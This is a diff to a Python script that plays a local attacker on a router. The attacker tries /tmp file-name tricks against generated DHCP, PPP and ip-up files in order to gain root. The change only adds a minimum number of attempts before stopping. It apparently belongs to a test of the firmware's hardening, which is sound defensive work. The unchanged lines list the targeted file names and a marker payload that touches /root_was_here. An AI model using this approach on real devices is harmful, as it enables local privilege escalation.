@@ -1,7 +1,7 @@
 """A local user who wants root's rights, in the router: tries everything that /tmp lets him do to the names of the
 generated files, until told to end, and then says how often he has tried what.
 
-attacker.py UID STOP: becomes UID; ends once the file STOP exists.
+attacker.py UID STOP: becomes UID; ends once the file STOP exists, and ENOUGH was tried.
 """
 import itertools
 import json
@@ -13,6 +13,7 @@ NAMES = [BATCH, ".uplinkd"] + [
     f".{name}" for name in ("udhcpc_v4_wan0.script", "udhcpc_v4_wan0.pid", "udhcpc6_v6_wan0.script",
                             "udhcpc6_v6_wan0.pid", "pppd_wan0_ppp.pid", "ip-up_wan0", "ip-down_wan0",
                             "ipv6-up_wan0", "ipv6-down_wan0")]
+ENOUGH = 10000  # attempts of each kind
 COMMAND = b"\n/bin/touch /root_was_here\n"
 
 
@@ -72,7 +73,7 @@ def main():
             pass
         if count % 100 == 0:
             os.closerange(3, 1000)
-            if os.path.exists(stop):
+            if os.path.exists(stop) and min(tried.values()) >= ENOUGH:
                 break
     print(json.dumps({"tried": tried, "done": done}))
 
